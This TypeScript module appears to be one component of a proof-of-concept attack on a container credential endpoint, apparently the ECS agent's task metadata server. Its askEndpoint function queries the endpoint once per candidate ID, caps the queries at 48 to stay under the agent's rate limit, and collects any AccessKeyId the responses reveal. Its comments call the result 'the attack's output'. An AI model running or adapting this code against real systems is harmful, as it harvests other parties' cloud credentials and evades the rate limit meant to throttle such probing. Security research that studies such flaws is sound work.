import type { Candidate, HttpAnswer, RouteResult } from './route.ts';

/** What the credential endpoint said to one ID. */
export type EndpointAnswer =
  | { id: string; state: 'answered'; status: number; nonce?: string; accessKeyId?: string; code?: string }
  | { id: string; state: 'unreachable'; error: string };

/** The attack's output: every route's result, and the endpoint's answer to each ID found. */
export interface AttackReport {
  routes: RouteResult[];
  answers: EndpointAnswer[];
}

/**
 * At most this many IDs are asked: under the agent's default rate limit (burst 60 a caller,
 * ecs-agent/tmds/server.go tollbooth), so that no answer is a 429 of our own making.
 */
export const MAX_IDS = 48;

/** Asks the endpoint once per distinct ID, in the order found. */
export async function askEndpoint(candidates: Candidate[], ask: (id: string) => Promise<HttpAnswer>): Promise<EndpointAnswer[]> {
  const ids = [...new Set(candidates.map((c) => c.id))].slice(0, MAX_IDS);
  const answers: EndpointAnswer[] = [];
  for (const id of ids) {
    const r = await ask(id);
    if (!r.ok) {
      answers.push({ id, state: 'unreachable', error: r.error });
      continue;
    }
    let body: { AccessKeyId?: string; code?: string } = {};
    try {
      body = JSON.parse(r.body) as typeof body;
    } catch {
      /* not JSON: no key, no code */
    }
    answers.push({ id, state: 'answered', status: r.status, ...(r.nonce ? { nonce: r.nonce } : {}), ...(body.AccessKeyId ? { accessKeyId: body.AccessKeyId } : {}), ...(body.code ? { code: body.code } : {}) });
  }
  return answers;
}
